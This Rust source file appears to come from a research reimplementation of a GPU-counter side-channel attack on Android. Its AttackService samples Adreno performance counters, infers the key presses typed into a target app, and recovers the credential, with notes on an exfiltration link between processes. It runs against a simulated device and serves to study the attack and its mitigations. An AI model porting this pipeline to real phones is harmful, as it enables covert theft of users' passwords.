//! The attacking application's background service (§3.2 "Online Phase").
//!
//! Runs the full pipeline end to end. Its one driver,
//! [`AttackService::eavesdrop`], is *streaming*: it interleaves bursts of
//! counter reads with incremental [`Stage`] pushes, so no full session
//! trace is ever materialised and every key press is committed the moment
//! the evidence suffices (see each [`InferredKey::decided_at`]). The
//! pipeline is
//!
//! 1. [`Sampler::next_sample`] — one counter read at a time;
//! 2. [`DeltaStage`] — raw reads → counter changes, re-anchoring resets;
//! 3. [`RecognizeStage`] — pick the
//!    preloaded model from the warm-up prefix (§3.2);
//! 4. [`LaunchGate`] — optionally swallow everything before the target
//!    app's cold-launch burst (§3.2);
//! 5. [`SwitchStage`] — drop changes produced outside the target app,
//!    flag returns to it (§5.2);
//! 6. [`InferStage`] — Algorithm 1: key presses out of typing changes
//!    (§5.1);
//! 7. [`CorrectionStage`] — backspace/length tracking over the noise
//!    stream, applied at end of session (§5.3).
//!
//! [`AttackService::streaming_session`] is the same pipeline without the
//! sampler, for a remote process (the wire layer's classifier server) that
//! receives its samples off a transport. `tests/pipeline_digests.rs` pins
//! what the pipeline returns on a fixed matrix of sessions.

use adreno_sim::time::SimInstant;
use android_ui::UiSimulation;
use kgsl::Errno;
use std::fmt;

use crate::appswitch::{SwitchEvent, SwitchStage};
use crate::classify::{ClassifierModel, ModelMeta};
use crate::correction::{CorrectedKeys, CorrectionEvent, CorrectionStage};
use crate::launch::LaunchGate;
use crate::metrics::{score_session, SessionScore};
use crate::offline::{ModelStore, RecognizeStage};
use crate::online::{InferEvent, InferStage, InferenceStats, InferredKey};
use crate::sampler::{SampleStream, Sampler, SamplerConfig, SamplerReport};
use crate::stage::Stage;
use crate::trace::{Delta, DeltaStage, Sample};

/// Samples per burst between the sampling loop and the stage pipeline in
/// the in-process burst loop ([`AttackService::eavesdrop`] and every fleet
/// session): big enough to amortise stage dispatch and centroid traversal,
/// small enough (~6 read intervals per keystroke at the paper's 5 ms
/// cadence) that decision latency stays bounded.
const SAMPLE_BURST: usize = 64;

/// Service configuration.
#[derive(Debug, Clone, Default)]
pub struct ServiceConfig {
    /// Counter-sampling loop configuration.
    pub sampler: SamplerConfig,
    /// Use the one-change-lookahead variant of Algorithm 1 — accuracy over
    /// timeliness (§5.1 trade-off). Despite the name this no longer buffers
    /// the full trace: [`InferStage::lookahead`] holds exactly one change.
    pub full_trace: bool,
    /// Only start inferring after the target app's cold-launch burst is
    /// observed (§3.2: the monitoring service arms itself at launch). When
    /// no launch is seen the session fails with
    /// [`ServiceError::LaunchNotDetected`].
    pub require_launch: bool,
    /// Extension beyond the paper: drop inferred presses that no text echo
    /// corroborates. Every real key press commits a character and therefore
    /// produces a field-redraw echo within ~half a second; popup-shaped
    /// system noise does not. Off by default so the stock pipeline matches
    /// the paper; the `ablate-corroboration` experiment quantifies it.
    pub echo_corroboration: bool,
}

/// Errors from an eavesdropping session.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ServiceError {
    /// The device file refused (mitigations, closed fd, …).
    Device(Errno),
    /// No preloaded model matched the observed device (§3.2 recognition
    /// failed).
    UnrecognisedDevice,
    /// `require_launch` was set but the target app never launched.
    LaunchNotDetected,
    /// The session pinned a model by content digest (wire `Hello`) but no
    /// loaded model has that digest — a registry mismatch surfaced as a
    /// typed error instead of silently misclassifying with the wrong model.
    ModelDigestMismatch(crate::registry::ModelDigest),
}

impl fmt::Display for ServiceError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            ServiceError::Device(e) => write!(f, "device error: {e}"),
            ServiceError::UnrecognisedDevice => write!(f, "no preloaded model matches this device"),
            ServiceError::LaunchNotDetected => write!(f, "target app launch was not observed"),
            ServiceError::ModelDigestMismatch(digest) => {
                write!(f, "no loaded model has digest {digest}")
            }
        }
    }
}

impl std::error::Error for ServiceError {}

impl From<Errno> for ServiceError {
    fn from(e: Errno) -> Self {
        ServiceError::Device(e)
    }
}

/// How much the session was degraded by device faults — the difference
/// between the credential the service *recovered* and the one it *could*
/// have recovered on a quiet device.
#[derive(Debug, Default, Clone, Copy, PartialEq)]
pub struct DegradationReport {
    /// Device faults observed (transients, denials, revocations,
    /// reservation losses).
    pub faults_seen: u64,
    /// Retry attempts the sampler spent recovering.
    pub retries_spent: u64,
    /// Read slots abandoned after their retry budget.
    pub reads_lost: u64,
    /// Successful reopen + re-reserve cycles after fd revocations.
    pub fd_reopens: u64,
    /// Successful re-reservation passes after the device forgot us.
    pub reservations_reacquired: u64,
    /// Backward counter jumps (GPU slumbers) the delta extractor
    /// re-anchored across.
    pub counter_resets: u64,
    /// Fraction of attempted read slots that produced a sample.
    pub coverage: f64,
}

impl DegradationReport {
    fn from_sampler(report: &SamplerReport, counter_resets: usize) -> Self {
        DegradationReport {
            faults_seen: report.faults_seen(),
            retries_spent: report.retries_spent,
            reads_lost: report.abandoned,
            fd_reopens: report.fd_reopens,
            reservations_reacquired: report.reservations_reacquired,
            counter_resets: counter_resets as u64,
            coverage: report.coverage(),
        }
    }

    /// Whether the session ran fault-free at full coverage.
    pub fn is_clean(&self) -> bool {
        self.faults_seen == 0 && self.counter_resets == 0 && self.reads_lost == 0
    }
}

impl fmt::Display for DegradationReport {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "faults={} retries={} lost={} reopens={} rereservations={} resets={} coverage={:.1}%",
            self.faults_seen,
            self.retries_spent,
            self.reads_lost,
            self.fd_reopens,
            self.reservations_reacquired,
            self.counter_resets,
            self.coverage * 100.0
        )
    }
}

/// How much the session was degraded by the *exfiltration link*, when the
/// sampler and classifier ran as separate processes over a lossy transport
/// (see the `wire` crate). All-zero — the [`Default`] — for in-process
/// sessions.
#[derive(Debug, Default, Clone, Copy, PartialEq, Eq)]
pub struct LinkDegradationReport {
    /// Data frames transmitted, including retransmissions.
    pub frames_sent: u64,
    /// Frames retransmitted after an ack timeout.
    pub retransmits: u64,
    /// Frames the transport dropped in flight.
    pub frames_dropped: u64,
    /// Frames the receiver discarded as corrupt (CRC mismatch or
    /// truncation).
    pub frames_corrupt: u64,
    /// Duplicate frames the receiver discarded by sequence number.
    pub duplicates_discarded: u64,
    /// Frames that arrived out of sequence order and were buffered or
    /// dropped for resequencing.
    pub reorders_observed: u64,
    /// Reconnect-and-resume cycles after the link went down.
    pub reconnects: u64,
    /// Payload bytes handed to the transport, including retransmissions.
    pub bytes_sent: u64,
    /// Payload bytes the peer cumulatively acknowledged.
    pub bytes_acked: u64,
}

impl LinkDegradationReport {
    /// Whether the link delivered everything first try: nothing dropped,
    /// corrupted, duplicated, reordered, retransmitted, or reconnected.
    pub fn is_clean(&self) -> bool {
        self.retransmits == 0
            && self.frames_dropped == 0
            && self.frames_corrupt == 0
            && self.duplicates_discarded == 0
            && self.reorders_observed == 0
            && self.reconnects == 0
    }
}

impl fmt::Display for LinkDegradationReport {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "sent={} retx={} dropped={} corrupt={} dups={} reorders={} reconnects={} \
             bytes={}/{} acked",
            self.frames_sent,
            self.retransmits,
            self.frames_dropped,
            self.frames_corrupt,
            self.duplicates_discarded,
            self.reorders_observed,
            self.reconnects,
            self.bytes_acked,
            self.bytes_sent,
        )
    }
}

/// The result of one eavesdropping session.
#[derive(Debug, Clone, PartialEq)]
pub struct SessionResult {
    /// Which preloaded model the recognition step selected.
    pub model: ModelMeta,
    /// Inferred key presses, time-ordered, after removing presses undone by
    /// detected backspaces.
    pub keys: Vec<InferredKey>,
    /// Every inferred press *including* the ones later excluded because a
    /// backspace deleted them. Per-key accuracy is measured against these:
    /// a corrected typo was still correctly eavesdropped (§5.3 merely keeps
    /// it out of the recovered credential).
    pub keys_before_corrections: Vec<InferredKey>,
    /// The recovered credential text.
    pub recovered_text: String,
    /// Algorithm 1 statistics (Fig 11 taxonomy).
    pub stats: InferenceStats,
    /// Echo-stream events (additions / deletions / blinks).
    pub corrections: Vec<CorrectionEvent>,
    /// App-switch bursts detected.
    pub switches: usize,
    /// When the target app's launch burst was observed (None when the
    /// session did not gate on launch).
    pub launch_at: Option<adreno_sim::time::SimInstant>,
    /// What the session survived. A faulty device degrades the result
    /// (partial trace, lost windows) rather than failing the session; this
    /// report says by how much.
    pub degradation: DegradationReport,
    /// What the exfiltration link survived, when the session ran split
    /// across a transport (all-zero for in-process sessions).
    pub link: LinkDegradationReport,
}

impl SessionResult {
    /// Scores the session against a simulation's ground truth: per-key
    /// accuracy over every true press (matched against the inference
    /// *before* correction-exclusion — a corrected typo was still correctly
    /// eavesdropped), text exactness over the recovered credential.
    pub fn score(&self, sim: &UiSimulation) -> SessionScore {
        let truth = sim.truth();
        score_session(
            &truth.keystrokes(),
            &truth.final_text(),
            &self.keys_before_corrections,
            &self.recovered_text,
        )
    }
}

/// Everything downstream of device recognition, constructed lazily once
/// [`RecognizeStage`] picks a model (the stages need its signatures and
/// centroids).
struct PostRecognition<'s> {
    model: &'s ClassifierModel,
    launch: LaunchGate,
    switch: SwitchStage,
    infer: InferStage<'s>,
    correction: CorrectionStage,
    // Scratch buffers reused across pushes so the steady-state path does
    // not allocate.
    gated: Vec<Delta>,
    switch_events: Vec<SwitchEvent>,
    infer_events: Vec<InferEvent>,
    correction_sink: Vec<CorrectionEvent>,
    /// In-target changes of the burst being routed, batched so the
    /// inference stage classifies them in one prepared-row traversal.
    typing_burst: Vec<Delta>,
    /// Accepted presses not yet drained by a streaming consumer (the wire
    /// layer's classifier server streams these back as they commit).
    fresh_keys: Vec<InferredKey>,
}

impl<'s> PostRecognition<'s> {
    fn new(model: &'s ClassifierModel, config: &ServiceConfig) -> Self {
        let launch = if config.require_launch {
            LaunchGate::armed(*model.launch_signature())
        } else {
            LaunchGate::open()
        };
        let infer = if config.full_trace {
            InferStage::lookahead(model)
        } else {
            InferStage::greedy(model)
        };
        PostRecognition {
            model,
            launch,
            switch: SwitchStage::new(model.switch_threshold()),
            infer,
            correction: CorrectionStage::new(
                model.ambient_signatures().to_vec(),
                config.echo_corroboration,
            ),
            gated: Vec::new(),
            switch_events: Vec::new(),
            infer_events: Vec::new(),
            correction_sink: Vec::new(),
            typing_burst: Vec::new(),
            fresh_keys: Vec::new(),
        }
    }

    /// Routes one recognised change through launch gate → switch filter →
    /// inference → correction tracking.
    fn push_change(&mut self, delta: Delta) {
        let mut gated = std::mem::take(&mut self.gated);
        self.launch.push(delta, &mut gated);
        self.route_gated(&mut gated);
        self.gated = gated;
    }

    fn route_gated(&mut self, gated: &mut Vec<Delta>) {
        let mut switch_events = std::mem::take(&mut self.switch_events);
        for g in gated.drain(..) {
            self.switch.push(g, &mut switch_events);
        }
        self.route_switch_events(&mut switch_events);
        self.switch_events = switch_events;
    }

    fn route_switch_events(&mut self, switch_events: &mut Vec<SwitchEvent>) {
        let mut infer_events = std::mem::take(&mut self.infer_events);
        let mut burst = std::mem::take(&mut self.typing_burst);
        // Returns only queue a timestamp on the correction stage (applied
        // there in timestamp order, independent of arrival order), and the
        // inference events are routed after this whole batch anyway — so
        // the typing changes can be collected and pushed as one burst,
        // which classifies them in a single prepared-row traversal while
        // producing the exact event sequence per-change pushes would.
        for ev in switch_events.drain(..) {
            match ev {
                SwitchEvent::Return(t) => self.correction.push_return(t),
                SwitchEvent::Typing(d) => burst.push(d),
            }
        }
        self.infer.push_burst(&burst, &mut infer_events);
        burst.clear();
        self.typing_burst = burst;
        self.route_infer_events(&mut infer_events);
        self.infer_events = infer_events;
    }

    fn route_infer_events(&mut self, infer_events: &mut Vec<InferEvent>) {
        let mut sink = std::mem::take(&mut self.correction_sink);
        for ev in infer_events.drain(..) {
            if let InferEvent::Key(key) = ev {
                self.fresh_keys.push(key);
            }
            self.correction.push(ev, &mut sink);
        }
        // Correction events are re-read from the stage at the end of the
        // session; the incremental stream has no further consumer.
        sink.clear();
        self.correction_sink = sink;
    }

    /// Flushes every stage in pipeline order and assembles the corrected
    /// key lists.
    fn finish(mut self) -> PipelineOutput<'s> {
        let mut gated = std::mem::take(&mut self.gated);
        self.launch.finish(&mut gated);
        self.route_gated(&mut gated);

        let mut switch_events = std::mem::take(&mut self.switch_events);
        self.switch.finish(&mut switch_events);
        self.route_switch_events(&mut switch_events);

        let mut infer_events = std::mem::take(&mut self.infer_events);
        self.infer.finish(&mut infer_events);
        self.route_infer_events(&mut infer_events);

        let mut sink = std::mem::take(&mut self.correction_sink);
        self.correction.finish(&mut sink);

        PipelineOutput {
            model: self.model,
            launch_at: self.launch.launch_at(),
            switches: self.switch.switches_detected(),
            stats: self.infer.stats(),
            corrected: self.correction.into_corrected(),
        }
    }
}

/// What a finished pipeline produced, before degradation data joins it.
struct PipelineOutput<'s> {
    model: &'s ClassifierModel,
    launch_at: Option<SimInstant>,
    switches: usize,
    stats: InferenceStats,
    corrected: CorrectedKeys,
}

/// The full streaming pipeline: delta extraction and device recognition up
/// front, everything model-dependent behind [`PostRecognition`].
struct Pipeline<'s> {
    config: &'s ServiceConfig,
    delta: DeltaStage,
    recognize: RecognizeStage<'s>,
    post: Option<PostRecognition<'s>>,
    deltas: Vec<Delta>,
    recognized: Vec<Delta>,
}

impl<'s> Pipeline<'s> {
    fn new(store: &'s ModelStore, config: &'s ServiceConfig) -> Self {
        Pipeline {
            config,
            delta: DeltaStage::new(),
            recognize: RecognizeStage::new(store),
            post: None,
            deltas: Vec::new(),
            recognized: Vec::new(),
        }
    }

    /// A pipeline pre-committed to `model` (digest-pinned wire sessions).
    /// Produces the same output as the recognition path for any session the
    /// recognition path would have matched to the same model — see
    /// [`RecognizeStage::pinned`].
    fn pinned(
        store: &'s ModelStore,
        config: &'s ServiceConfig,
        model: &'s ClassifierModel,
    ) -> Self {
        Pipeline {
            config,
            delta: DeltaStage::new(),
            recognize: RecognizeStage::pinned(store, model),
            post: None,
            deltas: Vec::new(),
            recognized: Vec::new(),
        }
    }

    /// Pushes a burst of samples, routing the resulting changes downstream
    /// in one pass. Equivalent to pushing each sample individually — every
    /// stage consumes its inputs in order — but the routing overhead and
    /// the classifier's centroid traversal are paid once per burst instead
    /// of once per sample.
    fn push_samples(&mut self, samples: &[Sample]) {
        let mut deltas = std::mem::take(&mut self.deltas);
        self.delta.push_samples(samples, &mut deltas);
        self.route_deltas(&mut deltas);
        self.deltas = deltas;
    }

    fn route_deltas(&mut self, deltas: &mut Vec<Delta>) {
        let mut recognized = std::mem::take(&mut self.recognized);
        for d in deltas.drain(..) {
            self.recognize.push(d, &mut recognized);
        }
        if self.post.is_none() {
            if let Some(model) = self.recognize.model() {
                self.post = Some(PostRecognition::new(model, self.config));
            }
        }
        if let Some(post) = &mut self.post {
            for d in recognized.drain(..) {
                post.push_change(d);
            }
        } else {
            // Still unrecognised: the recognise stage buffers the warm-up
            // prefix internally, so nothing can reach here.
            debug_assert!(recognized.is_empty());
            recognized.clear();
        }
        self.recognized = recognized;
    }

    /// Moves accepted presses not yet seen by a streaming consumer into
    /// `out` (empty until the device is recognised).
    fn drain_new_keys(&mut self, out: &mut Vec<InferredKey>) {
        if let Some(post) = &mut self.post {
            out.append(&mut post.fresh_keys);
        }
    }

    /// Flushes the pipeline and assembles the session result.
    fn finish(mut self, report: &SamplerReport) -> Result<SessionResult, ServiceError> {
        let mut deltas = std::mem::take(&mut self.deltas);
        self.delta.finish(&mut deltas);
        self.route_deltas(&mut deltas);
        let counter_resets = self.delta.resets();

        let mut recognized = std::mem::take(&mut self.recognized);
        self.recognize.finish(&mut recognized);
        debug_assert!(recognized.is_empty());

        let post = self.post.take().ok_or(ServiceError::UnrecognisedDevice)?;
        let output = post.finish();
        if self.config.require_launch && output.launch_at.is_none() {
            return Err(ServiceError::LaunchNotDetected);
        }
        let CorrectedKeys { keys, keys_before_corrections, corrections } = output.corrected;
        let recovered_text: String = keys.iter().map(|k| k.ch).collect();
        spansight::count("core.service.sessions", 1);
        spansight::count("core.service.keys_inferred", keys.len() as u64);
        Ok(SessionResult {
            model: *output.model.meta(),
            keys,
            keys_before_corrections,
            recovered_text,
            stats: output.stats,
            corrections,
            switches: output.switches,
            launch_at: output.launch_at,
            degradation: DegradationReport::from_sampler(report, counter_resets),
            link: LinkDegradationReport::default(),
        })
    }
}

/// The attacking service.
#[derive(Debug)]
pub struct AttackService {
    store: ModelStore,
    config: ServiceConfig,
}

impl AttackService {
    /// Creates a service with preloaded models.
    pub fn new(store: ModelStore, config: ServiceConfig) -> Self {
        AttackService { store, config }
    }

    /// The preloaded model store.
    pub fn store(&self) -> &ModelStore {
        &self.store
    }

    /// The service configuration (the wire layer's split driver shares the
    /// sampler half with its on-device client).
    pub fn config(&self) -> &ServiceConfig {
        &self.config
    }

    /// Eavesdrops the victim simulation until `until` and recovers the
    /// credential typed in the target app.
    ///
    /// This is the streaming driver: each counter read is pushed through
    /// the stage pipeline as it lands, so the full session trace is never
    /// materialised and every [`InferredKey::decided_at`] records when the
    /// pipeline actually committed to the press.
    ///
    /// Device faults degrade gracefully: transient errors are retried,
    /// revoked fds reopened, lost reservations re-acquired, and counter
    /// resets re-anchored. A partial trace yields a partial
    /// [`SessionResult`] whose [`DegradationReport`] says what was lost.
    ///
    /// # Errors
    ///
    /// * [`ServiceError::Device`] only when the session never acquired a
    ///   single sample — e.g. the §9 mitigations denying everything from
    ///   the start;
    /// * [`ServiceError::UnrecognisedDevice`] when no preloaded model
    ///   matches.
    pub fn eavesdrop(
        &self,
        sim: &mut UiSimulation,
        until: SimInstant,
    ) -> Result<SessionResult, ServiceError> {
        let mut session_span = spansight::span("core", "service.eavesdrop");
        session_span.sim_range(sim.now().as_nanos(), until.as_nanos());
        let mut driver = LocalDriver::open(self, sim, until)?;
        while !driver.step(sim) {}
        driver.finish(sim)
    }

    /// Begins an incremental analysis session: the push-based half of
    /// [`AttackService::eavesdrop`], decoupled from the sampler so a remote
    /// process (the wire layer's classifier server) can feed it samples as
    /// they arrive off a transport.
    pub fn streaming_session(&self) -> StreamingSession<'_> {
        StreamingSession { pipeline: Pipeline::new(&self.store, &self.config) }
    }

    /// Begins an incremental session pinned to the model with the given
    /// content digest — the wire path, where the client's `Hello` names its
    /// model by digest and recognition is skipped entirely.
    ///
    /// # Errors
    ///
    /// [`ServiceError::ModelDigestMismatch`] when no loaded model has that
    /// digest: the mismatch is a typed, attributable failure instead of a
    /// session silently classified with the wrong model.
    pub fn streaming_session_for(
        &self,
        digest: &crate::registry::ModelDigest,
    ) -> Result<StreamingSession<'_>, ServiceError> {
        let handle =
            self.store.find_digest(digest).ok_or(ServiceError::ModelDigestMismatch(*digest))?;
        Ok(StreamingSession {
            pipeline: Pipeline::pinned(&self.store, &self.config, handle.model()),
        })
    }
}

/// The in-process burst loop, one step at a time: the sampler, its stream
/// and the stage pipeline of one session. [`AttackService::eavesdrop`]
/// steps it until the stream ends; a [`crate::fleet::FleetSession`] steps
/// it once per scheduler quantum. The wire layer's `SplitDriver` is the
/// same loop with a transport between sampler and pipeline.
pub(crate) struct LocalDriver<'s> {
    sampler: Sampler,
    stream: SampleStream,
    pipeline: Pipeline<'s>,
    /// One burst of samples, read before the pipeline takes it whole.
    burst: Vec<Sample>,
}

impl<'s> LocalDriver<'s> {
    /// Opens the sampler on `sim`'s device, starts its stream to `until`
    /// and the service's pipeline; fails when the device refuses to open.
    pub(crate) fn open(
        service: &'s AttackService,
        sim: &UiSimulation,
        until: SimInstant,
    ) -> Result<Self, ServiceError> {
        let mut sampler = Sampler::open(sim.device(), service.config.sampler)?;
        let stream = sampler.start_stream(sim, until);
        Ok(LocalDriver {
            sampler,
            stream,
            pipeline: Pipeline::new(&service.store, &service.config),
            burst: Vec::with_capacity(SAMPLE_BURST),
        })
    }

    /// Reads one burst of up to [`SAMPLE_BURST`] samples and pushes it
    /// through the pipeline at once. Returns true once a short burst has
    /// ended the stream.
    pub(crate) fn step(&mut self, sim: &mut UiSimulation) -> bool {
        let LocalDriver { sampler, stream, burst, .. } = self;
        burst.clear();
        burst.extend(std::iter::from_fn(|| sampler.next_sample(stream, sim)).take(SAMPLE_BURST));
        self.pipeline.push_samples(&self.burst);
        self.burst.len() < SAMPLE_BURST
    }

    /// Closes the sampler and assembles the session result.
    pub(crate) fn finish(self, sim: &UiSimulation) -> Result<SessionResult, ServiceError> {
        let LocalDriver { mut sampler, stream, pipeline, .. } = self;
        let finished = sampler.finish_stream(stream);
        let report = sampler.report();
        sampler.close(sim.device());
        finished?;
        pipeline.finish(&report)
    }
}

/// An in-flight incremental analysis session (see
/// [`AttackService::streaming_session`]).
///
/// Push samples in timestamp order, drain freshly committed presses at any
/// point (the wire layer streams them back to the sampler side for latency
/// measurement), and finish with the sampler's report to assemble the
/// [`SessionResult`].
pub struct StreamingSession<'s> {
    pipeline: Pipeline<'s>,
}

impl StreamingSession<'_> {
    /// Feeds a burst of samples (in timestamp order) through the stage
    /// pipeline in one pass. Any split of a sample sequence into bursts
    /// gives the same result; the routing and classification costs are
    /// amortised across each burst. The wire layer's classifier server
    /// uses this to process each received exfiltration batch whole.
    pub fn push_samples(&mut self, samples: &[Sample]) {
        self.pipeline.push_samples(samples);
    }

    /// Moves presses committed since the last drain into `out`. The full
    /// per-session sequence equals `keys_before_corrections` of the final
    /// result (corrections are only applied at session end).
    pub fn drain_new_keys(&mut self, out: &mut Vec<InferredKey>) {
        self.pipeline.drain_new_keys(out);
    }

    /// Flushes every stage and assembles the session result.
    ///
    /// # Errors
    ///
    /// [`ServiceError::UnrecognisedDevice`] /
    /// [`ServiceError::LaunchNotDetected`] as in
    /// [`AttackService::eavesdrop`]; never [`ServiceError::Device`] (the
    /// device is out of the picture by now).
    pub fn finish(self, report: &SamplerReport) -> Result<SessionResult, ServiceError> {
        self.pipeline.finish(report)
    }
}

#[cfg(test)]
mod tests {
    // End-to-end service tests need a trained model and live in
    // `tests/attack_e2e.rs` and `tests/pipeline_digests.rs`; unit tests
    // here cover the error plumbing.
    use super::*;

    #[test]
    fn empty_store_is_unrecognised() {
        let service = AttackService::new(ModelStore::new(), ServiceConfig::default());
        let mut sim = UiSimulation::new(android_ui::SimConfig::paper_default(1));
        let err = service.eavesdrop(&mut sim, SimInstant::from_millis(500)).unwrap_err();
        assert_eq!(err, ServiceError::UnrecognisedDevice);
    }

    #[test]
    fn mitigated_device_reports_device_error() {
        let service = AttackService::new(ModelStore::new(), ServiceConfig::default());
        let mut sim = UiSimulation::new(android_ui::SimConfig::paper_default(2));
        sim.device().set_policy(kgsl::AccessPolicy::DenyAll);
        let err = service.eavesdrop(&mut sim, SimInstant::from_millis(500)).unwrap_err();
        assert_eq!(err, ServiceError::Device(Errno::Eacces));
    }

    #[test]
    fn errors_display() {
        assert!(ServiceError::UnrecognisedDevice.to_string().contains("no preloaded model"));
        assert!(ServiceError::Device(Errno::Eacces).to_string().contains("EACCES"));
    }
}
